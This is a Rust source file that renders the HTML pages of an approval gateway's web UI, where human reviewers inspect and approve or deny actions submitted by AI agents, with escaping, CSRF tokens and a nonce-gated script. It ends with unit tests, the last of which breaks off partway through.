//! HTML of the web UI, written with `format!` and one escaping function:
//! no template engine; the one script (`app.js`) only where a nonce allows
//! it. Everything a user or agent wrote goes through [`esc`] (or a
//! highlighter that escapes).

use std::fmt::Write;

use axum::http::StatusCode;
use axum::response::Html;
use secondkey_core::request::{Request, RequestState, ReviewDecision};
use serde_json::Value;

use secondkey_core::time::Timestamp;

use super::highlight::{self, esc};
use super::session::SignedIn;
use crate::gateway::rfc3339;
use crate::reviewer;

/// The stylesheet, vendored (served at `/assets/app.css`).
pub const CSS: &str = include_str!("app.css");

/// The page frame: navigation, who is signed in, sign-out form.
pub fn layout(title: &str, user: Option<&SignedIn>, body: &str) -> String {
    layout_with_script(title, user, body, None)
}

/// The page script (vendored): local times, and live updates of the
/// request page from its server-sent events. Allowed by the page's CSP
/// through its nonce only; every page works without it.
pub const SCRIPT: &str = include_str!("app.js");

/// [`layout`] with the page script, allowed by `nonce`.
pub fn layout_with_script(
    title: &str,
    user: Option<&SignedIn>,
    body: &str,
    nonce: Option<&str>,
) -> String {
    let mut nav = String::new();
    if let Some(u) = user {
        let groups: Vec<&str> = u.principal.groups.iter().map(String::as_str).collect();
        let _ = write!(
            nav,
            "<nav><a href=\"/inbox\">Inbox</a><a href=\"/history\">History</a><a href=\"/audit\">Audit</a><a href=\"/lineage\">Lineage</a>\
             <span class=\"who\">{} <small>{}</small></span>\
             <form method=\"post\" action=\"/logout\" class=\"inline\"><input type=\"hidden\" name=\"csrf\" value=\"{}\"><button class=\"link\">Sign out</button></form></nav>",
            esc(u.principal.id.as_str()),
            esc(&groups.join(", ")),
            esc(&u.csrf)
        );
    }
    format!(
        "<!doctype html><html lang=\"en\"><head><meta charset=\"utf-8\">\
         <meta name=\"viewport\" content=\"width=device-width, initial-scale=1\">\
         <title>{} · secondkey</title><link rel=\"stylesheet\" href=\"/assets/app.css\"></head>\
         <body><header><a class=\"brand\" href=\"/\">secondkey</a>{nav}</header><main>{body}</main>{script}</body></html>",
        esc(title),
        script = nonce
            .map(|n| format!("<script nonce=\"{}\">{SCRIPT}</script>", esc(n)))
            .unwrap_or_default()
    )
}

/// `s` as a sentence: a capital first letter and a closing full stop, so
/// messages written for the API read as prose next to each other. A
/// message that starts with an id (`user:bob`, `req_01…`) keeps it as
/// written: ids are lowercase.
pub fn sentence(s: &str) -> String {
    let s = s.trim();
    let mut out = String::with_capacity(s.len() + 1);
    let first_word = s.split_whitespace().next().unwrap_or_default();
    let is_id =
        first_word.contains([':', '_']) || first_word.contains(|c: char| c.is_ascii_digit());
    let mut chars = s.chars();
    if let Some(c) = chars.next() {
        if is_id {
            out.push(c);
        } else {
            out.extend(c.to_uppercase());
        }
        out.push_str(chars.as_str());
    }
    if !out.is_empty() && !out.ends_with(['.', '!', '?']) {
        out.push('.');
    }
    out
}

/// An error page inside the layout (navigation kept): what happened, in
/// sentences, and what to do next.
pub fn error_page(status: StatusCode, message: &str) -> Html<String> {
    let reason = status.canonical_reason().unwrap_or("Error");
    let next = match status.as_u16() {
        // A gateway without web sign-in has no sign-in page to offer: its
        // message says what to use instead.
        401 if message.contains("no [oidc] section") => "",
        401 => "<a href=\"/login\">Sign in</a> and try again.",
        403 => "If you think you should be able to do this, ask an administrator about your groups.",
        404 => "Check the link, or find the request in your <a href=\"/inbox\">inbox</a> or <a href=\"/history\">history</a>.",
        _ => "Go back to the <a href=\"/inbox\">inbox</a> and try again.",
    };
    let body = format!(
        "<nav class=\"plain\"><a href=\"/inbox\">Inbox</a> <a href=\"/history\">History</a> <a href=\"/audit\">Audit</a> <a href=\"/lineage\">Lineage</a></nav>\
         <h1>{reason} <small class=\"muted\">({})</small></h1><p class=\"error\" id=\"error\">{}</p><p>{next}</p>",
        status.as_u16(),
        esc(&sentence(message))
    );
    Html(layout(reason, None, &body))
}

fn state_badge(s: RequestState) -> String {
    format!("<span class=\"badge {0}\">{0}</span>", s.as_str())
}

fn summary(req: &Request) -> String {
    format!(
        "<code>{}.{}</code> on <code>{}</code>",
        esc(&req.action.kind),
        esc(&req.action.operation),
        esc(&req.action.resource)
    )
}

fn ctx_str<'a>(req: &'a Request, key: &str) -> Option<&'a str> {
    req.action.context.get(key).and_then(Value::as_str)
}

/// The agent session a request belongs to (batch grouping).
pub fn session_of(req: &Request) -> Option<&str> {
    ctx_str(req, "session")
}

/// One request as the inbox and the batch pages list it.
pub struct Row<'a> {
    pub req: &'a Request,
    /// Configured environment of the resource.
    pub environment: Option<&'a str>,
    /// A batch decision on it needs a comment (see `[web]`).
    pub needs_comment: bool,
}

fn env_cell(row: &Row<'_>) -> String {
    match (
        row.environment,
        row.req
            .action
            .context
            .get("environment")
            .and_then(Value::as_str),
    ) {
        (Some(e), _) => format!("<code>{}</code>", esc(e)),
        (None, Some(d)) => format!(
            "<code>{}</code> <small class=\"muted\">declared</small>",
            esc(d)
        ),
        (None, None) => "<span class=\"muted\">—</span>".into(),
    }
}

/// The inbox: pending requests the user may decide, grouped by requester
/// and agent session. Each row leads with its headline, environment, quorum
/// progress and time left. A group of several can be reviewed together:
/// nothing is selected until the reviewer ticks it, and the next step shows
/// every selected statement before anything is decided.
pub fn inbox(
    user: &SignedIn,
    rows: &[Row<'_>],
    waiting: &[Row<'_>],
    now_ms: i64,
    notice: Option<&str>,
) -> String {
    let now = Timestamp(now_ms);
    let mut body = String::from("<h1>Requests waiting for you</h1>");
    if let Some(n) = notice {
        let _ = write!(body, "<p class=\"notice\">{}</p>", esc(n));
    }
    if rows.is_empty() {
        body.push_str("<p class=\"empty\">Nothing is waiting for your review.</p>");
    }
    let mut groups: Vec<(String, Option<&str>, Vec<&Row<'_>>)> = Vec::new();
    for r in rows {
        let key = (r.req.requester.id.to_string(), session_of(r.req));
        match groups
            .iter_mut()
            .find(|(a, s, _)| *a == key.0 && *s == key.1)
        {
            Some(g) => g.2.push(r),
            None => groups.push((key.0, key.1, vec![r])),
        }
    }
    for (agent, session, items) in groups {
        let batch = items.len() > 1 && session.is_some();
        let _ = write!(
            body,
            "<section class=\"group\"><h2>{}{}</h2>",
            esc(&agent),
            session
                .map(|s| format!(" <small>session {}</small>", esc(s)))
                .unwrap_or_default()
        );
        if batch {
            let _ = write!(
                body,
                "<form method=\"post\" action=\"/inbox/batch\"><input type=\"hidden\" name=\"csrf\" value=\"{}\">",
                esc(&user.csrf)
            );
        }
        body.push_str("<table class=\"inbox\"><thead><tr>");
        if batch {
            body.push_str("<th><span class=\"sr\">Select</span></th>");
        }
        body.push_str(
            "<th>What will happen</th><th>Environment</th><th>Approvals</th><th>Time left</th></tr></thead><tbody>",
        );
        for r in &items {
            let _ = write!(
                body,
                "<tr{}>",
                if r.needs_comment {
                    " class=\"prod\""
                } else {
                    ""
                }
            );
            if batch {
                // Never pre-ticked: a reviewer picks each request.
                let _ = write!(
                    body,
                    "<td><input type=\"checkbox\" name=\"id\" value=\"{0}\" aria-label=\"select {0}\"></td>",
                    esc(&r.req.id)
                );
            }
            let risks: Vec<String> = reviewer::risks(r.req).into_iter().map(|k| k.text).collect();
            let _ = write!(
                body,
                "<td><a href=\"/requests/{0}\">{1}</a><br><small class=\"muted\">{0} · {2}</small></td><td>{3}</td><td>{4}</td><td>{5}</td></tr>",
                esc(&r.req.id),
                esc(&reviewer::headline(r.req, r.environment)),
                esc(&risks.join("; ")),
                env_cell(r),
                progress_list(r.req).replace(" id=\"quorum\"", ""),
                esc(&reviewer::time_left(now, r.req.expires_at))
            );
        }
        body.push_str("</tbody></table>");
        if batch {
            body.push_str(
                "<div class=\"decide\"><button name=\"step\" value=\"confirm\" id=\"review-selected\">Review selected…</button>\
                 <span class=\"muted\">Next: every selected statement in full, then approve or deny them together.</span></div></form>",
            );
        }
        body.push_str("</section>");
    }
    body.push_str("<h2 id=\"waiting\">Waiting on others</h2>");
    if waiting.is_empty() {
        body.push_str("<p class=\"empty\">No request you approved is still waiting.</p>");
    } else {
        body.push_str("<table class=\"inbox\" id=\"waiting-on-others\"><thead><tr><th>What will happen</th><th>Environment</th><th>Approvals</th><th>Time left</th></tr></thead><tbody>");
        for r in waiting {
            let _ = write!(
                body,
                "<tr><td><a href=\"/requests/{0}\">{1}</a><br><small class=\"muted\">{0}</small></td><td>{2}</td><td>{3}</td><td>{4}</td></tr>",
                esc(&r.req.id),
                esc(&reviewer::headline(r.req, r.environment)),
                env_cell(r),
                progress_list(r.req).replace(" id=\"quorum\"", ""),
                esc(&reviewer::time_left(now, r.req.expires_at))
            );
        }
        body.push_str("</tbody></table>");
    }
    layout("Inbox", Some(user), &body)
}

/// The confirmation step of a batch: every selected request in full —
/// headline, why review is required, environment, the whole statement (or
/// parameters) — then one comment and the deciding buttons. A comment is
/// required when any of them is a sensitive operation in a listed
/// environment.
pub fn batch_confirm(user: &SignedIn, rows: &[Row<'_>], now_ms: i64) -> String {
    let now = Timestamp(now_ms);
    let need = rows.iter().any(|r| r.needs_comment);
    let mut b = format!(
        "<h1>Review {} requests together</h1><p>Read each statement below. Your decision applies to each of them and is recorded as its own review.</p>\
         <form method=\"post\" action=\"/inbox/batch\" id=\"batch-confirm\"><input type=\"hidden\" name=\"csrf\" value=\"{}\"><input type=\"hidden\" name=\"step\" value=\"decide\"><div class=\"statements\">",
        rows.len(),
        esc(&user.csrf)
    );
    for (i, r) in rows.iter().enumerate() {
        let risks: Vec<String> = reviewer::risks(r.req).into_iter().map(|k| k.text).collect();
        let _ = write!(
            b,
            "<section class=\"batch-item\" id=\"item-{i}\"><input type=\"hidden\" name=\"id\" value=\"{0}\">\
             <h2>{1}. {2}</h2><p class=\"muted\"><a href=\"/requests/{0}\">{0}</a> · environment {3} · {4} · {5}</p>\
             <p class=\"risk\"><strong>Review required:</strong> {6}</p>",
            esc(&r.req.id),
            i + 1,
            esc(&reviewer::headline(r.req, r.environment)),
            env_cell(r),
            esc(&reviewer::progress(r.req).iter().map(|p| p.line()).collect::<Vec<_>>().join("; ")),
            esc(&reviewer::time_left(now, r.req.expires_at)),
            esc(&risks.join("; "))
        );
        what(&mut b, r.req, false);
        b.push_str("</section>");
    }
    let _ = write!(
        b,
        "</div><label for=\"comment\">Comment{}</label>\
         <textarea id=\"comment\" name=\"comment\" rows=\"2\" maxlength=\"4096\"{}></textarea>\
         <div class=\"decide\"><button name=\"decision\" value=\"approve\" class=\"approve\" id=\"confirm-approve\">Approve these {n}</button>\
         <button name=\"decision\" value=\"deny\" class=\"deny\" id=\"confirm-deny\">Deny these {n}</button>\
         <a href=\"/inbox\">Cancel</a></div></form>",
        if need {
            " (required: this batch holds a sensitive operation in production)"
        } else {
            ""
        },
        if need { " required" } else { "" },
        n = rows.len()
    );
    layout("Confirm batch", Some(user), &b)
}

/// The outcome of a batch decision, one line per request.
pub fn batch_result(user: &SignedIn, results: &[(String, Result<RequestState, String>)]) -> String {
    let mut body = String::from("<h1>Batch decision</h1><p>Each request was reviewed separately and recorded as its own review.</p><table><thead><tr><th>Request</th><th>Result</th></tr></thead><tbody>");
    for (id, r) in results {
        let res = match r {
            Ok(s) => state_badge(*s),
            Err(e) => format!("<span class=\"error\">{}</span>", esc(e)),
        };
        let _ = write!(
            body,
            "<tr><td><a href=\"/requests/{0}\">{0}</a></td><td>{res}</td></tr>",
            esc(id)
        );
    }
    body.push_str("</tbody></table><p><a href=\"/inbox\">Back to the inbox</a></p>");
    layout("Batch decision", Some(user), &body)
}

/// Every statement of the action, whole (SQL-highlighted for a `sql`
/// action), then every other parameter — what [`reviewer::shown`] says
/// every surface shows. `ids` names the blocks (`statement`, `params`) on
/// the request page.
fn what(b: &mut String, req: &Request, ids: bool) {
    let shown = reviewer::shown(&req.action);
    for (i, st) in shown.statements.iter().enumerate() {
        let lines = st.text.lines().count();
        let id = match (ids, i) {
            (false, _) => String::new(),
            (true, 0) => " id=\"statement\"".into(),
            (true, _) => format!(" id=\"statement-{}\"", esc(st.key)),
        };
        let (class, text) = if req.action.kind == "sql" {
            ("code sql", highlight::sql(st.text))
        } else {
            ("code", esc(st.text))
        };
        let _ = write!(
            b,
            "<h3>{} <small class=\"muted\">{} line{}, shown in full</small></h3><pre class=\"{class}\"{id}>{text}</pre>",
            esc(&shown.statement_label(i)),
            reviewer::number(lines as i64),
            if lines == 1 { "" } else { "s" },
        );
    }
    if !shown.rest.is_empty() || shown.statements.is_empty() {
        let params =
            serde_json::to_string_pretty(&Value::Object(shown.rest.clone())).unwrap_or_default();
        let _ = write!(
            b,
            "<h3>{}</h3><pre class=\"code json\"{}>{}</pre>",
            esc(shown.rest_label()),
            if ids { " id=\"params\"" } else { "" },
            highlight::json(&params)
        );
    }
}

/// The text compared as a line diff between similar actions: the
/// statement (every one, each under its key when there are several), or
/// the parameters as pretty JSON when there is none.
pub fn comparable_text(req: &Request) -> String {
    let statements = reviewer::statements(&req.action);
    match statements.as_slice() {
        [] => {}
        [one] => return format!("{}\n", one.text),
        several => {
            return several
                .iter()
                .map(|s| format!("-- params.{}\n{}\n", s.key, s.text))
                .collect()
        }
    }
    let mut t =
        serde_json::to_string_pretty(&Value::Object(req.action.params.clone())).unwrap_or_default();
    t.push('\n');
    t
}

/// An instant for reading: minutes in UTC on the page (the page script
/// turns it into the reader's local time), the exact instant on hover.
pub fn when(t: Timestamp) -> String {
    let exact = rfc3339(t);
    let short = exact.get(..16).unwrap_or(&exact).replace('T', " ");
    format!("<time datetime=\"{exact}\" title=\"{exact}\">{short} UTC</time>")
}

/// What the request page needs besides the request.
pub struct RequestPage<'a> {
    pub req: &'a Request,
    /// The action JSON exactly as submitted.
    pub submitted: &'a Value,
    /// Configured environment of the resource (a gateway fact).
    pub environment: Option<&'a str>,
    /// The last similar approved request the viewer may see, if any.
    pub similar: Option<&'a Request>,
    /// Why this user cannot decide (None: they may).
    pub cannot_decide: Option<String>,
    pub now_ms: i64,
    pub notice: Option<&'a str>,
    /// The nonce of the page's one script (live update, local times);
    /// `None`: no script.
    pub nonce: Option<&'a str>,
    /// The request's timeline, and what the gateway observed at
    /// submission (peer address, transport), from its log entries.
    pub timeline: &'a super::timeline::Timeline,
}

fn row(out: &mut String, label: &str, value_html: &str) {
    let _ = write!(out, "<tr><th>{label}</th><td>{value_html}</td></tr>");
}

fn code_or_dash(v: Option<&str>) -> String {
    v.map(|s| format!("<code>{}</code>", esc(s)))
        .unwrap_or_else(|| "<span class=\"muted\">—</span>".into())
}

fn list_or_dash(v: &[String]) -> String {
    if v.is_empty() {
        "<span class=\"muted\">none declared</span>".to_string()
    } else {
        v.iter()
            .map(|s| format!("<code>{}</code>", esc(s)))
            .collect::<Vec<_>>()
            .join("<br>")
    }
}

/// The quorum progress list (one line per requirement, see
/// [`reviewer::Progress::line`]).
pub fn progress_list(req: &Request) -> String {
    let mut b = String::from("<ul class=\"progress\" id=\"quorum\">");
    for p in reviewer::progress(req) {
        let _ = write!(
            b,
            "<li class=\"{}\">{}</li>",
            if p.missing() == 0 { "met" } else { "open" },
            esc(&p.line())
        );
    }
    b.push_str("</ul>");
    b
}

/// The request page. The first screen (at 1400×900) holds what a reviewer
/// must read before deciding: the headline, why review is required, what
/// changed since the last similar approval, what the gateway established
/// apart from what the agent declared, quorum progress, time left and the
/// decision form. The full statement and the details follow.
pub fn request(user: &SignedIn, p: &RequestPage<'_>) -> String {
    let r = p.req;
    let a = &r.action;
    let now = Timestamp(p.now_ms);
    let headline = reviewer::headline(r, p.environment);
    let mut b = String::with_capacity(16384 + a.params.len() * 64);
    let _ = write!(
        b,
        "<div class=\"req-top\" id=\"top\" data-request=\"{}\" data-state=\"{}\" data-reviews=\"{}\"><div class=\"req-main\">\
         <p class=\"crumbs\"><code>{}</code> {}</p><h1 id=\"headline\">{}</h1>",
        esc(&r.id),
        r.state.as_str(),
        r.reviews.len(),
        esc(&r.id),
        state_badge(r.state),
        esc(&headline)
    );
    if let Some(n) = p.notice {
        let _ = write!(b, "<p class=\"notice\">{}</p>", esc(n));
    }
    // Why review is required.
    b.push_str("<div class=\"risk\" id=\"risk\"><strong>Review required:</strong> ");
    let risks = reviewer::risks(r);
    if risks.is_empty() {
        b.push_str("<span class=\"muted\">no requirement (nobody can approve this request; it will expire)</span>");
    }
    for (i, k) in risks.iter().enumerate() {
        if i > 0 {
            b.push_str("; ");
        }
        if k.stated {
            let _ = write!(
                b,
                "{} <small class=\"muted\">(policy <code>{}</code>)</small>",
                esc(&k.text),
                esc(&k.policy)
            );
        } else {
            let _ = write!(b, "policy <code>{}</code>", esc(&k.policy));
        }
    }
    b.push_str("</div>");
    // What changed since the last similar approval, in words.
    b.push_str("<div id=\"changes\" class=\"changes\">");
    match p.similar {
        Some(prev) => {
            let changes = reviewer::changes(&prev.action, a);
            if changes.is_empty() {
                let _ = write!(
                    b,
                    "<strong>Same as</strong> the approved <a href=\"/requests/{0}\">{0}</a> ({1}).",
                    esc(&prev.id),
                    when(prev.created_at)
                );
            } else {
                let _ = write!(
                    b,
                    "<strong>Changed since</strong> the last similar approved action <a href=\"/requests/{0}\">{0}</a> ({1}):<ul>",
                    esc(&prev.id),
                    when(prev.created_at)
                );
                for c in &changes {
                    let _ = write!(b, "<li>{}</li>", esc(c));
                }
                b.push_str("</ul>");
            }
        }
        None => b.push_str(
            "<span class=\"muted\">No earlier similar action (same requester, kind, operation and resource) was approved.</span>",
        ),
    }
    b.push_str("</div>");
    // Established vs declared.
    b.push_str("<div class=\"facts\"><div class=\"established\" id=\"established\"><h2>Established by the gateway</h2><table class=\"kv\">");
    row(
        &mut b,
        "Requester",
        &format!(
            "<code>{}</code> <small class=\"muted\">authenticated</small>",
            esc(r.requester.id.as_str())
        ),
    );
    if let Some(o) = &r.requester.owner {
        row(&mut b, "Owner", &code_or_dash(Some(o.as_str())));
    }
    if let (Some(o), Some(_)) = (&a.on_behalf_of, r.acting_for()) {
        row(
            &mut b,
            "On behalf of",
            &format!(
                "<code>{}</code> <small class=\"muted\">backed</small>",
                esc(o.as_str())
            ),
        );
    }
    row(
        &mut b,
        "Environment",
        &match p.environment {
            Some(e) => format!(
                "<code>{}</code> <small class=\"muted\">configured</small>",
                esc(e)
            ),
            None => "<span class=\"muted\">none configured for this resource</span>".into(),
        },
    );
    row(
        &mut b,
        "Source address",
        &match (&p.timeline.observed.source_ip, &p.timeline.observed.transport) {
            (Some(ip), t) => format!(
                "<code id=\"source-observed\">{}</code> <small class=\"muted\">the connection's peer{}</small>",
                esc(ip),
                t.as_deref()
                    .map(|t| format!(", via {}", esc(t)))
                    .unwrap_or_default()
            ),
            (None, _) => "<span class=\"muted\" id=\"source-observed\">not observed</span>".into(),
        },
    );
    row(&mut b, "Resource", &code_or_dash(Some(&a.resource)));
    // An interception gateway (pg, mcp, http, ssh) read the operation off
    // the wire (or its configuration); only the REST API takes the agent's
    // word for it.
    let derived_by = p
        .timeline
        .observed
        .transport
        .as_deref()
        .filter(|t| *t != "api");
    let operation = format!("<code>{}.{}</code>", esc(&a.kind), esc(&a.operation));
    if let Some(t) = derived_by {
        row(
            &mut b,
            "Operation",
            &format!(
                "{operation} <small class=\"muted\">derived from the {} request</small>",
                esc(t)
            ),
        );
    }
    row(
        &mut b,
        "Digest",
        &format!("<code class=\"digest\">{}</code>", esc(r.digest.as_str())),
    );
    b.push_str("</table></div><div class=\"declared\" id=\"declared\"><h2>Declared by the agent</h2><table class=\"kv\">");
    if derived_by.is_none() {
        row(&mut b, "Operation", &operation);
    }
    if let Some(t) = &a.target {
        row(&mut b, "Destination", &code_or_dash(Some(t)));
    }
    if let (Some(o), None) = (&a.on_behalf_of, r.acting_for()) {
        row(
            &mut b,
            "On behalf of",
            &format!(
                "<code>{}</code> <em>not verified: it changes nobody's rights</em>",
                esc(o.as_str())
            ),
        );
    }
    if let Some(e) = ctx_str(r, "environment") {
        row(&mut b, "Environment", &code_or_dash(Some(e)));
    }
    let mut estimates = false;
    for (k, v) in &a.context {
        if k.starts_with("estimated_") || k.ends_with("_estimate") {
            estimates = true;
            row(
                &mut b,
                &esc(&k.replace('_', " ")),
                &format!("<code>{}</code>", esc(&reviewer::value_text(v))),
            );
        }
    }
    if !estimates {
        row(
            &mut b,
            "Estimates",
            "<span class=\"muted\">none declared</span>",
        );
    }
    row(&mut b, "Reads", &list_or_dash(&a.lineage.reads));
    row(&mut b, "Writes", &list_or_dash(&a.lineage.writes));
    row(&mut b, "Model", &code_or_dash(ctx_str(r, "model")));
    row(&mut b, "Session", &code_or_dash(ctx_str(r, "session")));
    if let Some(ip) = ctx_str(r, "source_ip") {
        row(
            &mut b,
            "Source address",
            &format!(
                "<code id=\"source-declared\">{}</code> <small class=\"muted\">declared</small>",
                esc(ip)
            ),
        );
    }
    row(
        &mut b,
        "Why",
        &a.justification
            .as_deref()
            .map(|j| format!("<q id=\"justification\">{}</q>", esc(j)))
            .unwrap_or_else(|| "<span class=\"muted\">no justification given</span>".into()),
    );
    b.push_str("</table></div></div></div>");

    // The side column: progress, time, decision.
    b.push_str("<aside class=\"req-side\" id=\"decide\"><h2>Approvals</h2>\
        <p id=\"live\" class=\"notice\" hidden></p>\
        <noscript><p class=\"muted\">Reload to see other reviewers' decisions (this page updates live only with JavaScript).</p></noscript>");
    b.push_str(&progress_list(r));
    let _ = write!(
        b,
        "<p id=\"time-left\" class=\"{}\"><strong>{}</strong> · expires {}</p>",
        if r.expires_at.0 - p.now_ms < 10 * 60_000 {
            "soon"
        } else {
            ""
        },
        esc(&reviewer::time_left(now, r.expires_at)),
        when(r.expires_at)
    );
    let grant_min = r.grant_ttl_ms / 60_000;
    let grant_text = if grant_min >= 1 && r.grant_ttl_ms % 60_000 == 0 {
        format!("{grant_min} min")
    } else {
        format!("{} s", r.grant_ttl_ms / 1000)
    };
    match &r.grant {
        Some(g) => {
            let _ = write!(
                b,
                "<p class=\"muted\" id=\"grant\">Approved: the grant {} {}.</p>",
                if g.used_at.is_some() {
                    "was used; it would have expired"
                } else {
                    "expires"
                },
                when(g.expires_at)
            );
        }
        None => {
            let _ = write!(
                b,
                "<p class=\"muted\" id=\"grant\">Once approved, the agent may run it once within {grant_text}.</p>"
            );
        }
    }
    match &p.cannot_decide {
        None => {
            let _ = write!(
                b,
                "<form method=\"post\" action=\"/requests/{}/review\" id=\"decision-form\">\
                 <input type=\"hidden\" name=\"csrf\" value=\"{}\">\
                 <label for=\"comment\">Comment</label>\
                 <textarea id=\"comment\" name=\"comment\" rows=\"2\" maxlength=\"4096\"></textarea>\
                 <div class=\"decide\"><button id=\"approve\" name=\"decision\" value=\"approve\" class=\"approve\">Approve</button>\
                 <button id=\"deny\" name=\"decision\" value=\"deny\" class=\"deny\">Deny</button></div></form>",
                esc(&r.id),
                esc(&user.csrf)
            );
        }
        Some(why) => {
            let _ = write!(b, "<p class=\"muted\" id=\"cannot\">{}</p>", esc(why));
        }
    }
    b.push_str("</aside></div>");

    // What exactly: every statement, whole, and every other parameter.
    b.push_str("<section id=\"what\"><h2>What</h2>");
    what(&mut b, r, true);
    b.push_str("</section>");
    // The diff against the last similar approval.
    if let Some(prev) = p.similar {
        let has_statement = !reviewer::statements(a).is_empty();
        if let Some(d) = highlight::diff(
            &comparable_text(prev),
            &comparable_text(r),
            has_statement && a.kind == "sql",
        ) {
            let _ = write!(
                b,
                "<section><h2>{} diff against <a href=\"/requests/{1}\">{1}</a></h2>\
                 <table class=\"diff\" id=\"diff\"><tbody>{d}</tbody></table></section>",
                if has_statement {
                    "Statement"
                } else {
                    "Parameters"
                },
                esc(&prev.id),
            );
        }
    }

    // Policies and reviews.
    b.push_str("<section><h2>Review required by</h2><table><thead><tr><th>Policy</th><th>Why</th><th>Groups</th><th>Approvals needed</th></tr></thead><tbody>");
    for q in &r.requirements {
        // An escalated requirement names itself and who may fill it now.
        let groups = if q.widened.is_empty() {
            esc(&q.groups.join(", "))
        } else {
            format!(
                "<strong>{}</strong><br>may be filled by {}",
                esc(&q.label()),
                esc(&q.who_may_fill())
            )
        };
        let _ = write!(
            b,
            "<tr><td><code>{}</code></td><td>{}</td><td>{groups}</td><td>{}</td></tr>",
            esc(&q.policy_id),
            q.reason
                .as_deref()
                .map(esc)
                .unwrap_or_else(|| "<span class=\"muted\">no @reason given</span>".into()),
            q.needed()
        );
    }
    b.push_str("</tbody></table>");
    let _ = write!(
        b,
        "<p class=\"muted\">Created {} · expires {}</p>",
        when(r.created_at),
        when(r.expires_at),
    );
    b.push_str("<div id=\"reviews-section\"><h3>Reviews so far</h3>");
    if r.reviews.is_empty() {
        b.push_str("<p class=\"muted\">None yet.</p>");
    } else {
        b.push_str("<table id=\"reviews\"><thead><tr><th>Reviewer</th><th>Decision</th><th>Comment</th><th>When</th></tr></thead><tbody>");
        for rv in &r.reviews {
            let d = match rv.decision {
                ReviewDecision::Approve => "approve",
                ReviewDecision::Deny => "deny",
            };
            let _ = write!(
                b,
                "<tr><td><code>{}</code></td><td><span class=\"badge {d}\">{d}</span></td><td>{}</td><td>{}</td></tr>",
                esc(rv.reviewer.as_str()),
                esc(rv.comment.as_deref().unwrap_or("")),
                when(rv.at)
            );
        }
        b.push_str("</tbody></table>");
    }
    b.push_str("</div></section>");
    b.push_str(&super::timeline::render(&p.timeline.events));
    let full = serde_json::to_string_pretty(p.submitted).unwrap_or_default();
    let _ = write!(
        b,
        "<section><details><summary>The action exactly as submitted (what the digest covers)</summary><pre class=\"code json\">{}</pre></details></section>",
        highlight::json(&full)
    );
    let title = format!("{}.{} on {} — {}", a.kind, a.operation, a.resource, r.id);
    layout_with_script(&title, Some(user), &b, p.nonce)
}

/// Decided requests the user was party to, newest first.
pub fn history(user: &SignedIn, reqs: &[&Request]) -> String {
    let mut b = String::from("<h1>History</h1>");
    if reqs.is_empty() {
        b.push_str("<p class=\"empty\">No decided requests yet.</p>");
        return layout("History", Some(user), &b);
    }
    b.push_str("<table><thead><tr><th>Request</th><th>State</th><th>Requester</th><th>Action</th><th>Reviews</th><th>Decided</th></tr></thead><tbody>");
    for r in reqs {
        let reviewers: Vec<String> = r
            .reviews
            .iter()
            .map(|v| {
                format!(
                    "{} ({})",
                    v.reviewer,
                    if v.decision == ReviewDecision::Approve {
                        "approve"
                    } else {
                        "deny"
                    }
                )
            })
            .collect();
        let _ = write!(
            b,
            "<tr><td><a href=\"/requests/{0}\">{0}</a></td><td>{1}</td><td><code>{2}</code></td><td>{3}</td><td>{4}</td><td>{5}</td></tr>",
            esc(&r.id),
            state_badge(r.state),
            esc(r.requester.id.as_str()),
            summary(r),
            esc(&reviewers.join(", ")),
            r.decided_at.map(rfc3339).unwrap_or_default()
        );
    }
    b.push_str("</tbody></table>");
    layout("History", Some(user), &b)
}

/// The audit page: the latest signed checkpoint, a readable receipt when
/// one was asked for (`receipt_html`, see [`super::receipt::readable`]),
/// and for log readers a receipt lookup and the paged entry list.
pub fn audit(
    user: &SignedIn,
    checkpoint: &str,
    verifier_key: &str,
    reader: Result<(), String>,
    receipt_html: Option<Result<(u64, String), String>>,
    entry_list: Option<String>,
) -> String {
    let mut b = String::from("<h1>Audit log</h1>");
    match receipt_html {
        None => {}
        Some(Ok((index, html))) => {
            let _ = write!(
                b,
                "<section id=\"receipt-section\"><h2>Entry {index} and its inclusion proof</h2>{html}</section>"
            );
        }
        Some(Err(e)) => {
            let _ = write!(
                b,
                "<p class=\"error\" id=\"error\">{}</p>",
                esc(&sentence(&e))
            );
        }
    }
    b.push_str("<h2>Latest signed checkpoint</h2>");
    let _ = write!(
        b,
        "<pre class=\"code\" id=\"checkpoint\">{}</pre><p class=\"muted\">Verifier key (get it out of band to rely on it): <code>{}</code></p>",
        esc(checkpoint),
        esc(verifier_key)
    );
    match reader {
        Err(why) => {
            let _ = write!(
                b,
                "<p class=\"muted\">{} The receipts of a request's entries are linked from its timeline.</p>",
                esc(&sentence(&why))
            );
        }
        Ok(()) => {
            b.push_str(
                "<h2>Receipt for an entry</h2><form method=\"get\" action=\"/audit\" class=\"row\"><label for=\"index\">Entry index</label>\
                 <input id=\"index\" name=\"index\" inputmode=\"numeric\" pattern=\"[0-9]+\" required>\
                 <button>Get receipt</button></form>",
            );
            if let Some(list) = entry_list {
                b.push_str(&list);
            }
        }
    }
    layout("Audit", Some(user), &b)
}

/// After sign-out.
pub fn signed_out() -> String {
    layout(
        "Signed out",
        None,
        "<h1>Signed out</h1><p><a href=\"/login\">Sign in again</a></p>",
    )
}

/// The request link's page when web sign-in is not configured.
pub fn cli_hint(id: &str, public_url: &str) -> String {
    let id = esc(id);
    let url = esc(public_url);
    layout(
        &format!("Request {id}"),
        None,
        &format!(
            "<h1>Request {id}</h1><p>Web sign-in is not configured on this gateway. Review it with the CLI:</p>\
             <pre class=\"code\">secondkey request show {id} --url {url} --token $SECONDKEY_TOKEN\n\
secondkey request approve {id} --url {url} --token $SECONDKEY_TOKEN</pre>"
        ),
    )
}

#[cfg(test)]
mod tests {
    use super::super::session::SessionClaims;
    use super::super::timeline::tests::entry;
    use super::super::timeline::Timeline;
    use super::*;
    use secondkey_core::action::Action;
    use secondkey_core::principal::Principal;
    use serde_json::json;
    use std::time::Duration;

    #[test]
    fn a_sentence_keeps_an_id_it_starts_with_as_written() {
        assert_eq!(sentence("nothing to do"), "Nothing to do.");
        assert_eq!(sentence("done!"), "Done!");
        assert_eq!(
            sentence("user:bob already reviewed this request"),
            "user:bob already reviewed this request."
        );
        assert_eq!(
            sentence("req_01a2b3 is a sensitive operation"),
            "req_01a2b3 is a sensitive operation."
        );
        assert_eq!(sentence(""), "");
    }

    #[test]
    fn without_web_sign_in_a_401_page_offers_no_sign_in() {
        let page = error_page(
            StatusCode::UNAUTHORIZED,
            "Web sign-in is not configured on this gateway (no [oidc] section). Use the CLI or the REST API with a token.",
        )
        .0;
        assert!(!page.contains("/login"), "{page}");
        assert!(page.contains("REST API with a token"), "{page}");
